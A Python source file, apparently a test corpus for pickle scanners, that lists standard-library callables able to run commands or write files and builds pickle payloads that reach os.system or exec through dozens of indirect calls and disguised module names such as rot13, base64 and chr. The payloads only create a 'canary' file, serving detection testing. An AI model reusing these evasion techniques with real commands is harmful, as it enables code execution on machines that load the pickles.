"""Callables of the standard library that, called with these arguments, leave a file (or folder) `canary` in the current
folder. Nothing here does anything else: no network, no path outside of the folder.
"""

import shutil
from typing import NamedTuple

from assemble import Raw, call, global_, named_call, short_unicode, value

COMMAND = 'echo > canary'
CODE = "open('canary', 'w').close()"
TOUCH = shutil.which('touch') or '/usr/bin/touch'


class Gadget(NamedTuple):
    module: str
    name: str
    arguments: tuple
    # False: a callable that no list needs to know as dangerous by itself (a constructor that opens a file it is given).
    executes: bool = True

    @property
    def label(self):
        return f'{self.module}.{self.name}'


def names(module, listed, *arguments, executes=True):
    return [Gadget(module, name, arguments, executes) for name in listed.split()]


# Run a command or code.
EXECUTING = [
    *names('os', 'system popen', COMMAND),
    *names('posix', 'system', COMMAND),
    *names('subprocess', 'getoutput getstatusoutput', COMMAND),
    *names('subprocess', 'call check_call check_output run', ['touch', 'canary']),
    *names('builtins', 'exec eval', CODE),
    *names('builtins', 'exec', "import os; os.mkdir('canary')"),
    Gadget('os', 'spawnv', (0, TOUCH, ['touch', 'canary'])),
    Gadget('os', 'spawnlp', (0, 'touch', 'touch', 'canary')),
    Gadget('os', 'spawnvp', (0, 'touch', ['touch', 'canary'])),
    Gadget('os', 'execv', (TOUCH, ['touch', 'canary'])),
    Gadget('os', 'execlp', ('touch', 'touch', 'canary')),
    Gadget('os', 'execvp', ('touch', ['touch', 'canary'])),
    Gadget('pty', 'spawn', (['touch', 'canary'],)),
    Gadget('timeit', 'timeit', (CODE, 'pass', Raw(global_('time', 'time')), 1)),
    Gadget('timeit', 'repeat', (CODE, 'pass', Raw(global_('time', 'time')), 1, 1)),
    Gadget('runpy', '_run_code', (CODE, {})),
    Gadget('cProfile', 'run', (CODE, 'profile_output')),
    Gadget('profile', 'run', (CODE, 'profile_output')),
    Gadget('cProfile', 'runctx', (CODE, {}, {}, 'profile_output')),
    Gadget('_aix_support', '_read_cmd_output', (COMMAND,)),
    Gadget('_osx_support', '_read_output', (COMMAND,)),
    Gadget('uuid', '_get_command_stdout', ('sh', '-c', COMMAND)),
    Gadget('distutils.spawn', 'spawn', (['touch', 'canary'],)),
    Gadget('multiprocessing.util', 'spawnv_passfds', (TOUCH.encode(), [b'touch', b'canary'], ())),
    Gadget('logging.config', '_resolve', ('corpus_canary.anything',)),
    Gadget('importlib', 'import_module', ('corpus_canary',)),
    Gadget('builtins', '__import__', ('corpus_canary',)),
    Gadget('pydoc', 'locate', ('corpus_canary.anything',)),
    Gadget('pydoc', 'safeimport', ('corpus_canary',)),
    Gadget('pkgutil', 'resolve_name', ('corpus_canary:anything',)),
    Gadget('runpy', 'run_module', ('corpus_canary',)),
    Gadget('zipimport', '_get_decompress_func', ()),
    Gadget('pickle', 'loads', (named_call('os', 'system', COMMAND) + b'.',)),
    Gadget('_pickle', 'loads', (named_call('os', 'system', COMMAND) + b'.',)),
    Gadget('typing', '_eval_type', ()),
    Gadget(
        'logging.config', 'dictConfig', ({'version': 1, 'formatters': {'f': {'()': 'os.system', 'command': COMMAND}}},)
    ),
    Gadget('pipes', 'Template', ()),
    Gadget('doctest', 'testsource', ()),
    Gadget('webbrowser', 'GenericBrowser', ()),
    Gadget('smtpd', 'SMTPServer', ()),
    Gadget('codeop', 'compile_command', ()),
    Gadget('trace', 'Trace.run', (Raw(named_call('trace', 'Trace', 0, 0)), CODE)),
    Gadget('bdb', 'Bdb.run', (Raw(named_call('bdb', 'Bdb')), CODE)),
    Gadget('code', 'InteractiveInterpreter.runsource', (Raw(named_call('code', 'InteractiveInterpreter')), CODE)),
    Gadget('timeit', 'Timer.timeit', (Raw(named_call('timeit', 'Timer', CODE)), 1)),
    Gadget('cProfile', 'Profile.run', (Raw(named_call('cProfile', 'Profile')), CODE)),
]
# Those without arguments, or of other Pythons, do not fire: ground truth takes them out.

# Write a file that they are told.
WRITING = [
    *names('builtins', 'open', 'canary', 'w', executes=False),
    *names('io', 'open FileIO', 'canary', 'w', executes=False),
    *names('_io', 'open FileIO', 'canary', 'w', executes=False),
    *names('codecs', 'open', 'canary', 'w', executes=False),
    *names('os', 'mkdir makedirs mkfifo', 'canary', executes=False),
    *names('posix', 'mkdir', 'canary', executes=False),
    Gadget('os', 'symlink', ('nowhere', 'canary'), False),
    Gadget('os', 'open', ('canary', 0o101), False),
    Gadget('shutil', 'copyfile', ('/etc/hostname', 'canary'), False),
    Gadget('shutil', 'copytree', ('.', 'canary'), False),
    Gadget('bz2', 'BZ2File', ('canary', 'w'), False),
    Gadget('bz2', 'open', ('canary', 'w'), False),
    Gadget('gzip', 'open', ('canary', 'w'), False),
    Gadget('gzip', 'GzipFile', ('canary', 'w'), False),
    Gadget('lzma', 'open', ('canary', 'w'), False),
    Gadget('lzma', 'LZMAFile', ('canary', 'w'), False),
    Gadget('zipfile', 'ZipFile', ('canary', 'w'), False),
    Gadget('tarfile', 'open', ('canary', 'w'), False),
    Gadget('shelve', 'open', ('canary',), False),
    Gadget('dbm.dumb', 'open', ('canary',), False),
    Gadget('sqlite3', 'connect', ('canary',), False),
    Gadget('logging', 'FileHandler', ('canary',), False),
    Gadget('logging.handlers', 'RotatingFileHandler', ('canary',), False),
    Gadget('mailbox', 'Maildir', ('canary',), False),
    Gadget('urllib.request', 'urlretrieve', ('file:///etc/hostname', 'canary'), False),
    Gadget('pathlib', 'Path.touch', (Raw(named_call('pathlib', 'PosixPath', 'canary')),), False),
    Gadget('pathlib', 'Path.mkdir', (Raw(named_call('pathlib', 'PosixPath', 'canary')),), False),
    Gadget('pathlib', 'Path.write_text', (Raw(named_call('pathlib', 'PosixPath', 'canary')), 'x'), False),
    Gadget('pathlib', 'Path.write_bytes', (Raw(named_call('pathlib', 'PosixPath', 'canary')), b'x'), False),
    Gadget(
        'xml.etree.ElementTree',
        'ElementTree.write',
        (Raw(named_call('xml.etree.ElementTree', 'ElementTree')), 'canary'),
        False,
    ),
    Gadget('distutils.file_util', 'write_file', ('canary', ['x']), False),
    Gadget('wave', 'open', ('canary', 'wb'), False),
    Gadget('cgitb', 'enable', (0, 'canary'), False),
    Gadget('venv', 'create', ('canary',), False),
    Gadget('ensurepip', 'bootstrap', (), False),
    Gadget('compileall', 'compile_dir', (), False),
    Gadget('trace', 'CoverageResults.write_results_file', (), False),
    Gadget('tempfile', 'TemporaryFile', (), False),
    Gadget('pickle', '_dump', (1, Raw(named_call('builtins', 'open', 'canary', 'wb'))), False),
    Gadget('tokenize', 'open', (), False),
    Gadget('fileinput', 'FileInput', (), False),
    Gadget('asyncio.log', 'logging.FileHandler', ('canary',), False),
]

SYSTEM = EXECUTING[0]


def chosen():
    """The gadgets with arguments: those that can do anything."""
    return [gadget for gadget in EXECUTING + WRITING if gadget.arguments]


def higher_order():
    """(label, opcodes): the payload runs inside of something that calls what it is given. All are calls by REDUCE."""
    system = Raw(global_('os', 'system'))
    os_module = named_call('importlib', 'import_module', 'os')
    partial = named_call('functools', 'partial', system, COMMAND)
    mapped = named_call('builtins', 'map', system, [COMMAND])
    filtered = named_call('builtins', 'filter', system, [COMMAND])
    starred = named_call('itertools', 'starmap', system, [(COMMAND,)])
    factory = named_call('collections', 'defaultdict', partial)
    pairs = {
        'partial': call(partial),
        'getattr': call(named_call('builtins', 'getattr', os_module, 'system'), COMMAND),
        'attrgetter': call(call(named_call('operator', 'attrgetter', 'system'), os_module), COMMAND),
        'methodcaller': call(named_call('operator', 'methodcaller', 'system', COMMAND), os_module),
        'vars': call(named_call('operator', 'getitem', named_call('builtins', 'vars', os_module), 'system'), COMMAND),
        'sys.modules': call(
            named_call(
                'builtins', 'getattr', named_call('operator', 'getitem', Raw(global_('sys', 'modules')), 'os'), 'system'
            ),
            COMMAND,
        ),
        '__dict__': call(
            named_call('operator', 'getitem', named_call('builtins', 'getattr', os_module, '__dict__'), 'system'),
            COMMAND,
        ),
        '__builtins__': call(
            named_call('operator', 'getitem', Raw(global_('os', '__builtins__')), 'exec'),
            CODE,
        ),
        'resolve_name': call(named_call('pkgutil', 'resolve_name', 'os:system'), COMMAND),
        'pydoc.locate': call(named_call('pydoc', 'locate', 'os.system'), COMMAND),
        'logging resolve': call(named_call('logging.config', '_resolve', 'os.system'), COMMAND),
        'list of map': named_call('builtins', 'list', mapped),
        'tuple of map': named_call('builtins', 'tuple', mapped),
        'set of map': named_call('builtins', 'set', mapped),
        'sum of map': named_call('builtins', 'sum', mapped),
        'any of map': named_call('builtins', 'any', mapped),
        'bytes of map': named_call('builtins', 'bytes', mapped),
        'deque of map': named_call('collections', 'deque', mapped),
        'Counter of map': named_call('collections', 'Counter', mapped),
        'next of map': named_call('builtins', 'next', mapped),
        'list of filter': named_call('builtins', 'list', filtered),
        'list of starmap': named_call('builtins', 'list', starred),
        'deque of starmap': named_call('collections', 'deque', starred, 0),
        'list of accumulate': named_call(
            'builtins', 'list', named_call('itertools', 'accumulate', [CODE, {}], Raw(global_('builtins', 'exec')))
        ),
        'list of takewhile': named_call('builtins', 'list', named_call('itertools', 'takewhile', system, [COMMAND])),
        'list of dropwhile': named_call('builtins', 'list', named_call('itertools', 'dropwhile', system, [COMMAND])),
        'list of filterfalse': named_call(
            'builtins', 'list', named_call('itertools', 'filterfalse', system, [COMMAND])
        ),
        'dict of groupby': named_call('builtins', 'dict', named_call('itertools', 'groupby', [COMMAND], system)),
        'list of iter': named_call('builtins', 'list', named_call('builtins', 'iter', partial, 0)),
        'reduce': named_call('functools', 'reduce', Raw(global_('builtins', 'exec')), [CODE, {}]),
        'reduce getattr': call(
            named_call('functools', 'reduce', Raw(global_('builtins', 'getattr')), ['system'], os_module), COMMAND
        ),
        'defaultdict': named_call('operator', 'getitem', factory, 'missing'),
        'defaultdict by format_map': named_call('builtins', 'str.format_map', '{missing}', factory),
        'sorted by': call(call(named_call('operator', 'attrgetter', 'sort'), [COMMAND])),
        'cmp_to_key': named_call('builtins', 'list', mapped),
        'starmap exec': named_call(
            'builtins', 'list', named_call('itertools', 'starmap', Raw(global_('builtins', 'exec')), [(CODE,)])
        ),
        'Thread': named_call(
            'threading', 'Thread.run', named_call('threading', 'Thread', None, system, None, [COMMAND])
        ),
        'Timer': named_call('threading', 'Timer.run', named_call('threading', 'Timer', 0, system, [COMMAND])),
        'Process.run': named_call(
            'multiprocessing', 'Process.run', named_call('multiprocessing', 'Process', None, system, None, [COMMAND])
        ),
        'ExitStack': named_call('contextlib', 'ExitStack.close', named_call('contextlib', 'ExitStack')),
        'copyreg._reconstructor': named_call('copyreg', '__newobj__', Raw(global_('builtins', 'bytes')), mapped),
        'start_new_thread': named_call('_thread', 'start_new_thread', system, (COMMAND,)),
        'atexit': named_call('atexit', 'register', system, COMMAND),
        'finalize': named_call('weakref', 'finalize', named_call('argparse', 'Namespace'), system, COMMAND),
        'run_in_executor': named_call('sched', 'scheduler.run', named_call('sched', 'scheduler')),
        'ctypes': call(
            named_call('builtins', 'getattr', named_call('ctypes', 'CDLL', None), 'system'), COMMAND.encode()
        ),
        'ctypes item': call(
            named_call('operator', 'getitem', named_call('ctypes', 'CDLL', None), 'system'), COMMAND.encode()
        ),
        'compile then exec': named_call('builtins', 'exec', named_call('builtins', 'compile', CODE, 'file', 'exec')),
        'FunctionType': call(
            named_call('types', 'FunctionType', named_call('builtins', 'compile', CODE, 'file', 'exec'), {})
        ),
        'MethodType': call(named_call('types', 'MethodType', system, COMMAND)),
        'SimpleQueue': named_call('operator', 'call', system, COMMAND),
        'string.Formatter': named_call('string', 'Formatter.format', named_call('string', 'Formatter'), '{0}', 1),
        'DynamicClassAttribute': named_call(
            'types', 'DynamicClassAttribute.__get__', named_call('types', 'DynamicClassAttribute', system), COMMAND
        ),
        'property': named_call('builtins', 'property.__get__', named_call('builtins', 'property', system), COMMAND),
        'cached_property': named_call('functools', 'cached_property.func', COMMAND),
        'singledispatch': call(named_call('functools', 'singledispatch', system), COMMAND),
        'lru_cache': call(call(named_call('functools', 'lru_cache'), system), COMMAND),
        'cache': call(named_call('functools', 'cache', system), COMMAND),
        'wraps': call(named_call('contextlib', 'contextmanager', system), COMMAND),
        're.sub': named_call('re', 'sub', 'a', Raw(global_('builtins', 'exec')), 'a'),
        'sorted key': named_call('functools', 'reduce', Raw(global_('builtins', 'map')), [[COMMAND]], system),
        'str.translate': named_call('builtins', 'str.translate', 'a', factory),
        'weakref.WeakMethod': call(named_call('weakref', 'proxy', system), COMMAND),
        'dict.setdefault': call(named_call('builtins', 'dict.get', {'a': system}, 'a'), COMMAND),
        'list.pop': call(named_call('builtins', 'list.pop', [system]), COMMAND),
        'list.sort': named_call('builtins', 'list.extend', [], mapped),
        'dict.fromkeys': named_call('builtins', 'dict.fromkeys', mapped),
        'set.update': named_call('builtins', 'set', mapped),
        'str.join': named_call('builtins', 'enumerate', mapped),
        'min': named_call('builtins', 'min', mapped),
        'heapq': named_call('heapq', 'nsmallest', 1, [COMMAND], system),
        'bisect': named_call('bisect', 'bisect', [COMMAND], 0, 0, 1),
        'statistics': named_call('statistics', 'mean', mapped),
        'zip of map': named_call('builtins', 'list', named_call('builtins', 'zip', mapped)),
        'chain of map': named_call('builtins', 'list', named_call('itertools', 'chain', mapped)),
        'islice of map': named_call('builtins', 'list', named_call('itertools', 'islice', mapped, 5)),
        'array of map': named_call('array', 'array', 'i', mapped),
        'heapify merge': named_call('builtins', 'list', named_call('heapq', 'merge', mapped)),
        'sortedlist': named_call('builtins', 'sorted', mapped),
        'math.fsum': named_call('math', 'fsum', mapped),
        'dict of zip': named_call('builtins', 'dict', named_call('builtins', 'zip', [1], mapped)),
        'frozenset of map': named_call('builtins', 'frozenset', mapped),
        'range index': named_call('operator', 'contains', mapped, 5),
        'operator.countOf': named_call('operator', 'countOf', mapped, 5),
        'operator.indexOf': named_call('operator', 'indexOf', mapped, 0),
        'bytearray of map': named_call('builtins', 'bytearray', mapped),
        'all of map': named_call('builtins', 'all', mapped),
        'max of map': named_call('builtins', 'max', mapped),
        'OrderedDict of zip': named_call('collections', 'OrderedDict', named_call('builtins', 'zip', [1], mapped)),
        'ChainMap': named_call('collections', 'UserList', mapped),
        'UserDict': named_call('collections', 'UserDict', named_call('builtins', 'zip', [1], mapped)),
        'array extend': named_call('array', 'array.extend', named_call('array', 'array', 'i'), mapped),
    }
    return [(label, bytes(opcodes)) for label, opcodes in pairs.items()]


def computed_names():
    """(label, opcodes): STACK_GLOBAL takes what a call returns as module or name; then os.system runs the command."""
    joined = named_call('builtins', 'str.join', '', ['o', 's'])
    ways = {
        'str.join': joined,
        'operator.concat': named_call('operator', 'concat', 'o', 's'),
        'operator.add': named_call('operator', 'add', 'o', 's'),
        'codecs rot13': named_call('codecs', 'decode', 'bf', 'rot13'),
        '_codecs.decode': named_call('_codecs', 'decode', b'os', 'ascii'),
        'str of bytes': named_call('builtins', 'str', b'os', 'ascii'),
        'bytes.decode': named_call('builtins', 'bytes.decode', b'os'),
        'str.lower': named_call('builtins', 'str.lower', 'OS'),
        'str.replace': named_call('builtins', 'str.replace', 'oxs', 'x', ''),
        'str.strip': named_call('builtins', 'str.strip', ' os '),
        'str.format': named_call('builtins', 'str.format', '{}{}', 'o', 's'),
        'chr': named_call('operator', 'concat', named_call('builtins', 'chr', 111), named_call('builtins', 'chr', 115)),
        'getitem': named_call('operator', 'getitem', ['json', 'os'], 1),
        'dict.get': named_call('builtins', 'dict.get', {'a': 'os'}, 'a'),
        'sys.intern': named_call('sys', 'intern', 'os'),
        'base64': named_call('builtins', 'bytes.decode', named_call('base64', 'b64decode', 'b3M=')),
        'min': named_call('builtins', 'min', ['os', 'zz']),
        'reversed': named_call('builtins', 'str.join', '', named_call('builtins', 'reversed', 'so')),
        'os.path.basename': named_call('os.path', 'basename', '/a/os'),
        'textwrap': named_call('textwrap', 'dedent', '  os'),
        'builtins.str': named_call('builtins', 'str', 'os'),
        'string.Template': named_call(
            'string', 'Template.substitute', named_call('string', 'Template', '$a'), {'a': 'os'}
        ),
    }
    argument = value((COMMAND,)) + b'R'
    for label, module in ways.items():
        yield f'module by {label}', bytes(module) + short_unicode('system') + b'\x93' + argument
    for label, module in list(ways.items())[:6]:
        name = bytes(named_call('operator', 'concat', 'sys', 'tem'))
        yield f'module and name by {label}', bytes(module) + name + b'\x93' + argument
